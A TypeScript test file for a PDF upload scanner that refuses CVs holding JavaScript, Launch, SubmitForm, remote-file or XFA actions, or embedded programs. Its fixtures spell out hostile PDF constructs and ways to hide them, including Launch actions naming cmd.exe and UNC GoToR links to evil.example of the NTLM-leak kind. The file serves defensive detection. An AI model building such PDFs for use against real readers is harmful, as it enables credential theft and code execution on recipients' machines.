import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildPdf } from '../../../../test/fixtures/files/build-pdf.js';
import { ascii85, asciiHex, lzw, runLength } from '../../../../test/fixtures/files/pdf-encoders.js';
import { samples } from '../../../../test/fixtures/files/samples.js';
import { createBuiltinScanner } from './builtin-scanner.js';
import { bytesSubject } from './bytes-subject.js';
import { notIn, PdfInspector } from './pdf-inspector.js';

const scan = async (bytes: Uint8Array) => {
  const result = await createBuiltinScanner().scan(bytesSubject('cv.pdf', bytes));
  return {
    ...result,
    rules: result.findings.map((f) => f.rule),
    details: result.findings.map((f) => f.detail),
  };
};

/**
 * A PDF of a catalog, `count` objects that `filler(number)` writes (numbered from 10), then `last`
 * and a trailer: the many-object files that the check's limits are about.
 */
function manyObjectPdf(
  count: number,
  filler: (n: number) => string,
  last: string,
  catalogExtra = '',
): Buffer {
  const parts = [
    `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra}>> endobj\n`,
    '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n',
  ];
  for (let n = 10; n < 10 + count; n++) parts.push(filler(n));
  parts.push(last, 'trailer << /Root 1 0 R >>\n%%EOF\n');
  return Buffer.from(parts.join(''), 'latin1');
}

/** The PDF check alone, fed the file cut at `cuts` (offsets where a new chunk starts). */
async function inspectInChunks(pdf: Buffer, cuts: number[]) {
  const inspector = new PdfInspector({ expandedBytes: 0 }, 100 * 1024 * 1024);
  const starts = [0, ...cuts.filter((c) => c > 0 && c < pdf.length), pdf.length];
  for (let i = 0; i + 1 < starts.length; i++) inspector.push(pdf.subarray(starts[i], starts[i + 1]));
  return inspector.finish({
    read: async (start, end) => pdf.subarray(start, end),
    inspectEmbedded: async () => [],
  });
}

const embedded = (name: string, data: Buffer) => ({
  catalogExtra: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
  objects: [
    { dict: '/Type /EmbeddedFile /Filter /FlateDecode', data: deflateSync(data) },
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>`,
  ],
});

describe('PDF check: names only where they are names', () => {
  it.each([
    [
      'a job title in the document information',
      '/Title (Senior JavaScript Engineer) /Subject (/JavaScript /Launch)',
    ],
    [
      'a link to a page about JavaScript',
      '/OpenAction << /S /URI /URI (https://example.com/JavaScript/Launch) >>',
    ],
    [
      'a glyph named AA in a font encoding',
      '/Enc << /Type /Encoding /Differences [1 /AA /JS /Launch /JavaScript] >>',
    ],
    ['additional actions that only go to a page', '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>'],
    ['showing or hiding a layer', '/OpenAction << /S /SetOCGState /State [/OFF 9 0 R] >>'],
    ['a named action', '/OpenAction << /S /Named /N /NextPage >>'],
    ['a GoToR to a file beside it', '/OpenAction << /S /GoToR /F (annex.pdf) /D [0 /Fit] >>'],
    ['a hex string that spells a name', '/Title <2f4a617661536372697074>'],
    ['a comment that holds an action', '% /S /JavaScript /JS (x)\n/Lang (en)'],
  ])('accepts %s', async (_what, extra) => {
    const r = await scan(buildPdf({ catalogExtra: extra }));
    expect(r.findings).toEqual([]);
    expect(r.kind).toBe('clean');
  });

  it('accepts JavaScript words in a content stream', async () => {
    const content = Buffer.from('BT (/S /JavaScript /JS (x) /Launch) Tj ET');
    const r = await scan(buildPdf({ objects: [{ dict: '', data: content }] }));
    expect(r.kind).toBe('clean');
  });
});

describe('PDF check: what runs or reaches out', () => {
  it.each([
    ['/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', 'pdf-javascript'],
    ['/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>', 'pdf-javascript'],
    ['/Names << /JavaScript << /Names [(x) 9 0 R] >> >>', 'pdf-javascript'],
    ['/AA << /O << /S /JavaScript /JS (x) >> >>', 'pdf-javascript'],
    ['/OpenAction << /S /Launch /F (cmd.exe) >>', 'pdf-launch'],
    ['/OpenAction << /S /ImportData /F (data.fdf) >>', 'pdf-import-data'],
    ['/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>', 'pdf-submit-form'],
    [
      '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
      'pdf-remote-file',
    ],
    [
      '/OpenAction << /S /GoToR /F << /FS /URL /F (http://evil.example/x.pdf) >> /D [0 /Fit] >>',
      'pdf-remote-file',
    ],
    ['/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>', 'pdf-remote-file'],
    // GoToE and Thread name a file to open as GoToR does (the NTLM leak of CVE-2018-4993 used both kinds).
    [
      '/OpenAction << /S /GoToE /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
      'pdf-remote-file',
    ],
    ['/OpenAction << /S /Thread /F (//evil.example/share/x.pdf) /D 0 >>', 'pdf-remote-file'],
    // A path behind a byte-order mark: UTF-8 (PDF 2.0) and UTF-16LE, which readers decode.
    [
      '/OpenAction << /S /GoToR /F (\xef\xbb\xbf//evil.example/share/x.pdf) /D [0 /Fit] >>',
      'pdf-remote-file',
    ],
    [
      `/OpenAction << /S /GoToR /F (\xff\xfe${Buffer.from('//evil.example/s/x.pdf', 'utf16le').toString('latin1')}) /D [0 /Fit] >>`,
      'pdf-remote-file',
    ],
    ['/Annots [<< /Subtype /RichMedia /RichMediaContent 9 0 R >>]', 'pdf-richmedia'],
  ])('refuses %s', async (extra, rule) => {
    const r = await scan(buildPdf({ catalogExtra: extra }));
    expect(r.kind).toBe('rejected');
    expect(r.rules).toContain(rule);
  });

  it.each([
    ['a Launch', '/OpenAction << /Foo 1 2 /S /Launch /F (calc.exe) >>', 'pdf-launch'],
    [
      'a GoToR to another computer',
      '/OpenAction << /D 0 1 /S /GoToR /F (//evil.example/s/x.pdf) >>',
      'pdf-remote-file',
    ],
    [
      'a SubmitForm',
      '/OpenAction << /Foo 1 2 /S /SubmitForm /F (https://evil.example/) >>',
      'pdf-submit-form',
    ],
  ])('refuses %s whose dictionary a stray token knocks out of step', async (_, extra, rule) => {
    // PDFium and pdf.js skip what cannot be a key and pair the rest; qpdf reads the same pairs.
    expect((await scan(buildPdf({ catalogExtra: extra }))).rules).toEqual([rule]);
  });

  it('names the object that holds the action', async () => {
    const r = await scan(
      buildPdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'], catalogExtra: '/OpenAction 7 0 R' }),
    );
    expect(r.details.join(' ')).toMatch(/Launch action.*object 7/);
  });

  it('follows an action type given by reference', async () => {
    const r = await scan(
      buildPdf({ catalogExtra: '/OpenAction << /S 7 0 R /F (cmd.exe) >>', objects: ['/Launch'] }),
    );
    expect(r.rules).toContain('pdf-launch');
  });

  it('follows a GoToR whose file specification is an object of its own', async () => {
    const pdf = buildPdf({
      catalogExtra: '/OpenAction << /S /GoToR /F 7 0 R /D [0 /Fit] >>',
      objects: ['<< /Type /Filespec /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >>'],
    });
    expect((await scan(pdf)).rules).toContain('pdf-remote-file');
  });

  it.each([
    ['/F', '<< /Type /Filespec /F 8 0 R >>'],
    ['/UF', '<< /Type /Filespec /F (annex.pdf) /UF 8 0 R >>'],
  ])(
    'refuses a GoToR whose file name in %s is an object of its own, which it does not follow',
    async (_, spec) => {
      // Readers resolve the reference to the string (MuPDF opens file://\\attacker\share\x.pdf).
      const pdf = buildPdf({
        catalogExtra: '/OpenAction << /S /GoToR /F 7 0 R /D [0 /Fit] >>',
        objects: [spec, '(\\\\\\\\evil.example\\\\share\\\\x.pdf)'],
      });
      expect((await scan(pdf)).rules).toEqual(['pdf-remote-file']);
    },
  );

  it.each([
    ['a path beside it', '<< /F (annex.pdf) >>', 'clean'],
    ['a path beside it, as a hex string', '<< /F <616e6e65782e706466> >>', 'clean'],
    ['a UNC path', '<< /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >>', 'rejected'],
  ])('reads a GoToR target given only by /F, %s', async (_, spec, kind) => {
    // No /Type /Filespec: the object looks like any small dictionary, but it is what the link opens.
    const pdf = buildPdf({
      catalogExtra: '/OpenAction << /S /GoToR /F 7 0 R /D [0 /Fit] >>',
      objects: [spec],
    });
    expect((await scan(pdf)).kind).toBe(kind);
  });

  it.each([
    ['Flate', { filter: '/FlateDecode', encode: (d: Buffer) => deflateSync(d) }],
    ['LZW', { filter: '/LZWDecode', encode: lzw }],
    ['ASCIIHex', { filter: '/ASCIIHexDecode', encode: asciiHex }],
    ['ASCII85', { filter: '/ASCII85Decode', encode: ascii85 }],
    ['RunLength', { filter: '/RunLengthDecode', encode: runLength }],
    [
      'ASCII85 over Flate',
      { filter: '[/ASCII85Decode /FlateDecode]', encode: (d: Buffer) => ascii85(deflateSync(d)) },
    ],
  ])('reads an object stream behind %s', async (_name, objStmFilter) => {
    const bad = await scan(buildPdf({ objStm: '<< /S /JavaScript /JS (app.alert(1)) >>', objStmFilter }));
    expect(bad.rules).toContain('pdf-javascript');
    expect(bad.details.join(' ')).toContain('object 5');
    const good = await scan(buildPdf({ objStm: '<< /Title (JavaScript in depth) >>', objStmFilter }));
    expect(good.kind).toBe('clean');
  });

  it('refuses an object stream behind a filter it cannot decode', async () => {
    const r = await scan(
      buildPdf({
        objStm: '<< /S /JavaScript >>',
        objStmFilter: { filter: '/JBIG2Decode', encode: (d) => d },
      }),
    );
    expect(r.rules).toContain('pdf-unscannable');
  });

  it('reads an object hidden inside stream data, where a cross-reference table can point', async () => {
    const pdf = buildPdf({ padTo: 4000 });
    pdf.write('9 0 obj << /S /J#61vaScript /JS (x) >> endobj', pdf.indexOf('AAAA') + 1000, 'latin1');
    expect((await scan(pdf)).rules).toContain('pdf-javascript');
  });

  it.each([
    ['a comment between its tokens', '9 0 %note\nobj'],
    ['a comment on a line of its own', '9 0\n% a note\n  obj'],
    ['a signed generation', '9 +0 obj'],
    ['a signed number', '+9 0 obj'],
  ])('reads a hidden object whose header has %s, as MuPDF and qpdf read it', async (_, header) => {
    const pdf = buildPdf({ padTo: 4000, catalogExtra: '/OpenAction 9 0 R' });
    pdf.write(`${header} << /S /JavaScript /JS (x) >> endobj`, pdf.indexOf('AAAA') + 1000, 'latin1');
    expect((await scan(pdf)).details).toEqual(['The PDF contains a JavaScript action (object 9).']);
  });

  it('reads a header whose numbers follow a % on their line: a reader that jumps to the number never sees it', async () => {
    const pdf = buildPdf({ padTo: 4000 });
    pdf.write('% 9 0\nobj << /S /JavaScript /JS (x) >> endobj', pdf.indexOf('AAAA') + 1000, 'latin1');
    expect((await scan(pdf)).rules).toEqual(['pdf-javascript']);
  });

  it('reads a hidden object to the endobj that ends it, not to one in a string', async () => {
    const pdf = buildPdf({ padTo: 4000 });
    pdf.write(
      '9 0 obj << /T (endobj) /S /JavaScript /JS (x) >> endobj',
      pdf.indexOf('AAAA') + 1000,
      'latin1',
    );
    expect((await scan(pdf)).details).toEqual(['The PDF contains a JavaScript action (object 9).']);
  });

  it('finds a hidden object whose header a chunk cuts, however much whitespace it holds', async () => {
    const pdf = buildPdf({ padTo: 8000 });
    const header = `9${' '.repeat(100)}0\n\n${' '.repeat(3000)}obj`;
    const at = pdf.indexOf('AAAA') + 1000;
    pdf.write(`${header} << /S /JavaScript /JS (x) >> endobj`, at, 'latin1');
    for (const cut of [at + 1, at + 50, at + 101, at + 102, at + 2000, at + header.length - 1]) {
      const hits = await inspectInChunks(pdf, [cut]);
      expect(hits.map((h) => h.detail)).toEqual(['The PDF contains a JavaScript action (object 9).']);
    }
  });

  it('reads a hidden object past its first window, and refuses one that never ends as unscannable', async () => {
    const long = buildPdf({ padTo: 300_000 });
    const at = long.indexOf('AAAA') + 1000;
    long.write(`9 0 obj << /K 1${' '.repeat(150_000)}/S /JavaScript /JS (x) >> endobj`, at, 'latin1');
    expect((await scan(long)).rules).toEqual(['pdf-javascript']);
    // A dictionary opened in stream data that never closes: 5 MB of the data follow it.
    const endless = buildPdf({ padTo: 6 * 1024 * 1024 });
    endless.write('9 0 obj << /K 1 ', endless.indexOf('AAAA') + 1000, 'latin1');
    expect((await scan(endless)).details).toEqual([
      `The PDF hides an object larger than the check reads (at byte ${endless.indexOf('9 0 obj')}).`,
    ]);
  });

  it('refuses as unscannable a PDF with more object headers than it keeps, not searching it in part', async () => {
    // A million tiny objects (22 MB), then an action hidden in stream data: past the headers kept,
    // it went unseen and the file was accepted.
    const data = `${'A'.repeat(1000)}9 0 obj << /S /JavaScript /JS (x) >> endobj${'A'.repeat(1000)}`;
    const pdf = manyObjectPdf(
      1_000_010,
      (n) => `${n} 0 obj 0 endobj\n`,
      `3 0 obj << /Length ${data.length} >> stream\n${data}\nendstream endobj\n`,
    );
    const r = await scan(pdf);
    expect(r.details).toEqual([
      'The PDF has more object headers than the check keeps track of (1000000), so objects hidden among them could not be searched.',
    ]);
  }, 30_000);

  it('refuses as unscannable a cut header with more whitespace than it reads back', async () => {
    const pdf = buildPdf({ padTo: 3 * 1024 * 1024 });
    const at = pdf.indexOf('AAAA') + 1000;
    const header = `9${' '.repeat(1_200_000)}0 obj`;
    pdf.write(`${header} << /S /JavaScript /JS (x) >> endobj`, at, 'latin1');
    const hits = await inspectInChunks(pdf, [at + header.length - 10]);
    expect(hits.map((h) => h.detail)).toEqual([
      'The PDF has an object header in more whitespace than the check reads.',
    ]);
  });

  it('searches a hidden object whose syntax breaks where it names an action', async () => {
    const pdf = buildPdf({ padTo: 4000 });
    pdf.write('9 0 obj << /S /JavaScript /JS (x) > endobj', pdf.indexOf('AAAA') + 1000, 'latin1');
    expect((await scan(pdf)).rules).toEqual(['pdf-damaged-javascript']);
  });

  it('ignores action names that are not in a dictionary, even inside binary stream data', async () => {
    const pdf = buildPdf({ padTo: 4000 });
    pdf.write('/JS /AA /Launch /JavaScript ', pdf.indexOf('AAAA') + 1000, 'latin1');
    expect((await scan(pdf)).kind).toBe('clean');
  });

  it('finds an action cut across two chunks', async () => {
    const pdf = buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (x) >>' });
    const at = pdf.indexOf('/JavaScript') + 5;
    const rules = (await inspectInChunks(pdf, [at])).map((h) => h.rule);
    expect(rules).toContain('pdf-javascript');
  });

  it('finds the same whatever the chunk sizes: names, escapes, strings and endstream cut anywhere', async () => {
    const files = [
      buildPdf({
        catalogExtra:
          '/Title (a \\) stream) /OpenAction << /S /J#61vaScript /JS <6170702e616c65727428312929> >>',
      }),
      buildPdf({
        objStm: '<< /Type /Annot /A << /S /Launch /F (calc.exe) >> >>',
        catalogExtra: '/OpenAction 5 0 R',
      }),
      buildPdf({ catalogExtra: '% /JS (x) stream\n/AA << /O << /S /GoToR /F (//host/share/a.pdf) >> >>' }),
      buildPdf({ padTo: 3000, catalogExtra: '/OpenAction << /S /SubmitForm /F (https://x.example) >>' }),
    ];
    for (const pdf of files) {
      const whole = await inspectInChunks(pdf, []);
      expect(whole.length).toBeGreaterThan(0);
      for (const size of [1, 2, 3, 5, 8, 64, 1000]) {
        const cuts = Array.from({ length: Math.ceil(pdf.length / size) }, (_, i) => i * size);
        expect(await inspectInChunks(pdf, cuts)).toEqual(whole);
      }
    }
  });

  it('finds an action after a run of plain objects, whatever comes between them and wherever the chunks are cut', async () => {
    const plain = Array.from(
      { length: 12 },
      (_, i) =>
        `<< /Type /StructElem /S /P /P 2 0 R /K [${i} <</Type /MCR /Pg 3 0 R /MCID ${i}>>] /Alt (endobj ${i}) >>`,
    );
    const actions: [string, string][] = [
      ['<< /S /JavaScript /JS (app.alert(1)) >>', 'pdf-javascript'],
      ['<< /S /Launch /F (calc.exe) >>', 'pdf-launch'],
      ['<< /S /J#61vaScript /JS (x) >>', 'pdf-javascript'],
    ];
    for (const [action, rule] of actions) {
      // A stream right before the action: its `endobj` and the next header come straight after its data.
      const stream = { dict: '/Filter /FlateDecode', data: deflateSync('BT (endobj) Tj ET') };
      const pdf = buildPdf({ objects: [...plain, stream, action, ...plain] });
      const text = pdf.toString('latin1');
      // Between objects: a comment, and a header the lexer reads (`obj` with no whitespace after it).
      const variants = [
        pdf,
        Buffer.from(
          text.replace(`\n${8 + plain.length} 0 obj\n`, `\n% made by hand\n${8 + plain.length} 0 obj\n`),
          'latin1',
        ),
        Buffer.from(text.replace(`${8 + plain.length} 0 obj\n<<`, `${8 + plain.length} 0 obj<<`), 'latin1'),
      ];
      expect(new Set(variants.map((v) => v.toString('latin1'))).size).toBe(3);
      for (const variant of variants) {
        const whole = await inspectInChunks(variant, []);
        expect(whole.map((h) => h.rule)).toEqual([rule]);
        for (const size of [7, 64, 333]) {
          const cuts = Array.from({ length: Math.ceil(variant.length / size) }, (_, i) => i * size);
          expect(await inspectInChunks(variant, cuts)).toEqual(whole);
        }
      }
    }
  });

  it('reads on past a cross-reference table: an incremental update that adds an action, or a trailer that names encryption', async () => {
    const base = buildPdf({ objects: ['<< /Type /StructElem /S /P >>'] });
    const update = Buffer.from(
      '9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n' +
        'xref\n9 1\n0000000000 00000 n \ntrailer << /Root 1 0 R /Encrypt 10 0 R >>\n%%EOF\n',
      'latin1',
    );
    const pdf = Buffer.concat([base, update]);
    for (const size of [pdf.length, 64, 7]) {
      const cuts = Array.from({ length: Math.ceil(pdf.length / size) }, (_, i) => i * size);
      const hits = await inspectInChunks(pdf, cuts);
      expect(hits.map((h) => h.rule)).toEqual(['pdf-javascript']);
    }
    // The trailer after the table is read: /Encrypt there makes object streams unreadable.
    const encrypted = buildPdf({ objStm: '<< /Type /Annot >>', trailerExtra: '/Encrypt 9 0 R' });
    expect((await inspectInChunks(encrypted, [])).map((h) => h.rule)).toEqual(['pdf-encrypted']);
  });

  it('ends a stream wherever its endstream is cut, even on the last byte of a chunk', async () => {
    // The action's object hides from a reader that looks for objects by `N G obj` alone: a string
    // in it says `endobj` before the action. Only reading on after the stream finds it.
    const pdf = buildPdf({
      objects: [{ dict: '', data: Buffer.from('BT (data) Tj ET') }, '<< /Font (endobj) /JavaScript 9 0 R >>'],
    });
    const keyword = pdf.indexOf('endstream', pdf.indexOf('7 0 obj'));
    for (let cut = keyword - 2; cut <= keyword + 10; cut++) {
      const hits = await inspectInChunks(pdf, [cut]);
      expect(hits.map((h) => h.detail)).toEqual(['The PDF contains JavaScript (object 8).']);
    }
  });

  it('names the object whose number a chunk cuts in two, and no other', async () => {
    const pdf = buildPdf({ objects: ['null', 'null', 'null', 'null', '<< /S /Launch /F (calc.exe) >>'] });
    const at = pdf.indexOf('11 0 obj');
    for (const cut of [at, at + 1, at + 2, at + 3, at + 5]) {
      const hits = await inspectInChunks(pdf, [cut]);
      expect(hits.map((h) => h.detail)).toEqual([
        'The PDF contains a Launch action (runs a program or opens a file) (object 11).',
      ]);
    }
  });

  it('is not fooled by the word stream inside a string or a comment', async () => {
    const inString = buildPdf({ catalogExtra: '/Title (stream) /OpenAction << /S /JavaScript /JS (a) >>' });
    expect((await scan(inString)).rules).toContain('pdf-javascript');
    const withEol = buildPdf({
      catalogExtra: '/Title (x stream\n) /OpenAction << /S /J#61vaScript /JS (a) >>',
    });
    expect((await scan(withEol)).rules).toContain('pdf-javascript');
    const comment = buildPdf({ catalogExtra: '% stream\n/OpenAction << /S /Launch /F (cmd.exe) >>' });
    expect((await scan(comment)).rules).toContain('pdf-launch');
  });
});

describe('PDF check: forms, attachments, encryption', () => {
  it('refuses as unscannable an XFA form past the streams it keeps', async () => {
    // 200,000 empty streams (9 MB), then the form: its scripts were never read, and it passed.
    const form = '<field><event><script>app.alert(1)</script></event></field>';
    const pdf = manyObjectPdf(
      200_000,
      (n) => `${n} 0 obj << /Length 0 >> stream\n\nendstream endobj\n`,
      `7 0 obj << /Length ${form.length} >> stream\n${form}\nendstream endobj\n`,
      '/AcroForm << /Fields [] /XFA [(template) 7 0 R] >> ',
    );
    const r = await scan(pdf);
    expect(r.details).toEqual([
      'The PDF has too many streams (over 200000) to read its XFA form (object 7).',
    ]);
  }, 30_000);

  it('refuses an XFA form with a script and accepts one without', async () => {
    const xfa = (body: string) =>
      buildPdf({
        catalogExtra: '/AcroForm << /Fields [] /XFA [(template) 7 0 R] >>',
        objects: [{ dict: '/Filter /FlateDecode', data: deflateSync(`<template>${body}</template>`) }],
      });
    expect((await scan(xfa('<field><event><script>app.alert(1)</script></event></field>'))).rules).toContain(
      'pdf-xfa',
    );
    expect((await scan(xfa('<field name="surname"/>'))).kind).toBe('clean');
  });

  it('inspects an attached file as an upload and refuses a program', async () => {
    const r = await scan(buildPdf(embedded('invoice.exe', samples.pe)));
    expect(r.rules).toContain('pdf-embedded-file');
    expect(r.details.join(' ')).toContain('invoice.exe');
  });

  it('accepts an attached file of an accepted type', async () => {
    expect((await scan(buildPdf(embedded('photo.png', samples.png)))).kind).toBe('clean');
    expect((await scan(buildPdf(embedded('cv.pdf', buildPdf())))).kind).toBe('clean');
  });

  it('inspects a stream that /EF names even without /Type /EmbeddedFile, which is optional', async () => {
    const untyped = (name: string, data: Buffer) => ({
      catalogExtra: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
      objects: [
        { dict: '/Filter /FlateDecode', data: deflateSync(data) },
        `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>`,
      ],
    });
    expect((await scan(buildPdf(untyped('invoice.exe', samples.pe)))).rules).toEqual(['pdf-embedded-file']);
    expect((await scan(buildPdf(untyped('photo.png', samples.png)))).kind).toBe('clean');
  });

  it('refuses attachments named through an /EF dictionary of its own, which it does not follow', async () => {
    const pdf = buildPdf({
      catalogExtra: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
      objects: [
        { dict: '/Type /EmbeddedFile /Filter /FlateDecode', data: deflateSync(samples.png) },
        '<< /Type /Filespec /F (photo.png) /EF 9 0 R >>',
        '<< /F 7 0 R >>',
      ],
    });
    expect((await scan(pdf)).details).toEqual([
      'The PDF names its attached files through another object (object 8 points to object 9), which the check does not follow.',
    ]);
  });

  it('inspects every copy of an attachment whose object number is given twice', async () => {
    // The cross-reference table points at the first copy (the program); the second is a picture.
    const pdf = buildPdf(embedded('photo.png', samples.pe));
    const copy = Buffer.from(
      `7 0 obj\n<< /Type /EmbeddedFile /Filter /FlateDecode /Length ${deflateSync(samples.png).length} >>\nstream\n`,
      'latin1',
    );
    const at = pdf.indexOf('xref\n');
    const twice = Buffer.concat([
      pdf.subarray(0, at),
      copy,
      deflateSync(samples.png),
      Buffer.from('\nendstream\nendobj\n'),
      pdf.subarray(at),
    ]);
    expect((await scan(twice)).details.join(' ')).toContain(
      'attached file that is not accepted (photo.png, object 7)',
    );
  });

  it('refuses an attachment, a form or a hybrid document whose stream it cannot find or that hides in other data', async () => {
    // /EF names object 7, which is hidden inside the data of object 6 (a reader follows the
    // cross-reference table there); the same with nothing there at all.
    const hidden = buildPdf({ padTo: 4000, ...embedded('invoice.exe', samples.pe) });
    const seven = hidden.indexOf('7 0 obj');
    const into = hidden.indexOf('AAAA') + 100;
    const moved = Buffer.from(hidden);
    moved.write('7 0 obj << /Length 2 >> stream\nMZ\nendstream endobj', into, 'latin1');
    moved.write('9', seven, 'latin1');
    expect((await scan(moved)).details).toContain(
      'The PDF hides a stream of its attached file invoice.exe (object 7) inside other data, where the check does not read it.',
    );
    const missing = buildPdf({
      catalogExtra: '/AcroForm << /Fields [] /XFA [(template) 12 0 R] >>',
    });
    expect((await scan(missing)).details).toEqual([
      'The PDF names its XFA form (object 12), but the check found no stream of that number to read.',
    ]);
  });

  it("refuses an object stream object that runs on past the next object's offset, as qpdf reads it", async () => {
    // Object 10 opens a dictionary that goes on in object 11's range: qpdf reads 10 to its end,
    // a JavaScript action; the object-by-object reading saw loose names in 11.
    const objects = ['<< /Type /Annot >> ', '<< /Type /Foo ', '/S /JavaScript /JS (app.alert(1)) >> ', '42 '];
    const offsets = objects.map((_, i) => objects.slice(0, i).join('').length);
    const header = `${offsets.map((o, i) => `${9 + i} ${o}`).join(' ')} `;
    const data = deflateSync(Buffer.from(header + objects.join(''), 'latin1'));
    const pdf = buildPdf({
      catalogExtra: '/OpenAction 10 0 R',
      objects: [{ dict: `/Type /ObjStm /N 4 /First ${header.length} /Filter /FlateDecode`, data }],
    });
    expect((await scan(pdf)).rules).toEqual(['pdf-damaged-javascript']);
  });

  it('reads an object stream whose header separates numbers with NUL, as readers do', async () => {
    const body = '<< /Type /Annot >> << /S /JavaScript /JS (app.alert(1)) >>';
    const header = '9\u00000\u000010\u000019\u0000';
    const data = deflateSync(Buffer.from(header + body, 'latin1'));
    const pdf = buildPdf({
      catalogExtra: '/OpenAction 10 0 R',
      objects: [{ dict: `/Type /ObjStm /N 2 /First ${header.length} /Filter /FlateDecode`, data }],
    });
    expect((await scan(pdf)).details).toEqual(['The PDF contains a JavaScript action (object 10).']);
  });

  it('refuses a PDF whose catalog is broken by one byte where it names JavaScript', async () => {
    const pdf = buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' });
    // `<<` of the catalog becomes `\0<`: the dictionary now reads as a broken hex string that
    // swallows the action, but a reader that repairs files may still run it.
    const at = pdf.indexOf('1 0 obj\n<<') + '1 0 obj\n'.length;
    const broken = Buffer.from(pdf);
    broken[at] = 0;
    const r = await scan(broken);
    expect(r.kind).toBe('rejected');
    expect(r.rules).toEqual(['pdf-damaged-javascript']);
    expect(r.details[0]).toMatch(/damaged.*JavaScript/);
  });

  it('refuses as unscannable a PDF damaged in more places than it reads', async () => {
    // A thousand and one broken dictionaries (30 KB), then the broken one that names JavaScript:
    // past the ranges kept it was never read, and the file passed.
    const pdf = (broken: number) =>
      manyObjectPdf(
        broken,
        (n) => `${n} 0 obj\n\u0000< /A 1 >>\nendobj\n`,
        '9 0 obj\n\u0000< /S /JavaScript /JS (x) >>\nendobj\n',
      );
    expect((await scan(pdf(998))).rules).toEqual(['pdf-damaged-javascript']);
    expect((await scan(pdf(1001))).details).toEqual([
      "The PDF's structure is damaged in more than 1000 places, more than the check reads.",
    ]);
  });

  it('accepts a PDF damaged where it names nothing that runs, and one that only mentions JavaScript in text', async () => {
    const pdf = buildPdf({ catalogExtra: '/Lang (en) /Title (Senior /JavaScript engineer)' });
    const at = pdf.indexOf('1 0 obj\n<<') + '1 0 obj\n'.length;
    const broken = Buffer.from(pdf);
    broken[at] = 0;
    expect((await scan(broken)).kind).toBe('clean');
  });

  it.each([
    ['a string that never closes swallows the rest', '1 0 obj', '( 0 obj'],
    ['its dictionaries never close', '(app.alert(1)) >> >>', '(app.alert(1))      '],
    ['its action dictionary names /S twice, the second time as a string', '/JS (', '/S  ('],
  ])('refuses a PDF broken where it names JavaScript: %s', async (_, from, to) => {
    const pdf = buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' });
    const text = pdf.toString('latin1');
    expect(text).toContain(from);
    const r = await scan(Buffer.from(text.replace(from, to), 'latin1'));
    expect(r.kind).toBe('rejected');
    expect(r.details.join(' ')).toMatch(/JavaScript/);
  });

  it.each([
    ['its dictionary never closes', '<< /S /JavaScript /JS (app.alert(1)) >'],
    ['its `<<` is broken by one byte', '\0< /S /JavaScript /JS (app.alert(1)) >>'],
    ['an inner dictionary never closes', '<< /Type /Annot /A << /S /Launch /F (calc.exe) >'],
  ])(
    'refuses a PDF whose compressed object stream holds an object broken where it names an action: %s',
    async (_, objStm) => {
      const r = await scan(buildPdf({ objStm }));
      expect(r.kind).toBe('rejected');
      expect(r.rules[0]).toMatch(/^pdf-damaged-(javascript|launch)$/);
      // The object and the object stream that holds it are both named.
      expect(r.details[0]).toMatch(/damaged where it names .*\(object \d+ in object stream \d+\)/);
    },
  );

  it('accepts a compressed object broken where it names an action only inside a string', async () => {
    const r = await scan(
      buildPdf({ objStm: '<< /Type /Annot /A << /S /URI /URI (https://example.com/JS/JavaScript) >' }),
    );
    expect(r.findings).toEqual([]);
  });

  it("hands on a stream's data exactly, after LF or CRLF, its dictionary read or stepped over, the trailer a table or a stream", async () => {
    const data = '\nname,role\r\n';
    for (const eol of ['\n', '\r\n'])
      for (const xrefStream of [false, true]) {
        const others = '/AdditionalStreams [/application/vnd.oasis.opendocument.text 5 0 R]';
        const pdf = Buffer.from(
          `%PDF-1.7\n1 0 obj << /Type /Catalog /Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >> >> endobj\n` +
            // Plain: stepped over, read when the trailer names it.
            `5 0 obj << /Length ${data.length} >> stream${eol}${data}\nendstream endobj\n` +
            `7 0 obj << /Type /EmbeddedFile /Length ${data.length} >> stream${eol}${data}\nendstream endobj\n` +
            '8 0 obj << /Type /Filespec /F (a.csv) /EF << /F 7 0 R >> >> endobj\n' +
            (xrefStream
              ? `9 0 obj << /Type /XRef /Size 10 /Root 1 0 R ${others} /Length 0 >> stream${eol}\nendstream endobj\n`
              : `trailer << /Root 1 0 R ${others} >>\n`),
          'latin1',
        );
        for (const size of [1, 3, 7, 64, pdf.length]) {
          const handed: [string, string, boolean][] = [];
          const inspector = new PdfInspector({ expandedBytes: 0 }, 1024 * 1024);
          for (let at = 0; at < pdf.length; at += size) inspector.push(pdf.subarray(at, at + size));
          await inspector.finish({
            read: async (start, end) => pdf.subarray(start, end),
            inspectEmbedded: async (name, bytes, part) => {
              handed.push([name, Buffer.from(bytes).toString('latin1'), part === true]);
              return [];
            },
          });
          expect(handed).toEqual([
            ['a.csv', data, false],
            ['hybrid-5', data, true],
          ]);
        }
      }
  });

  it("ends a stream's data where its /Length says, and reads an object hidden after an endstream inside the data", async () => {
    const hiding = '\nendstream\nendobj\n9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n';
    const data = `<xdp>${hiding}</xdp>`;
    const handed: string[] = [];
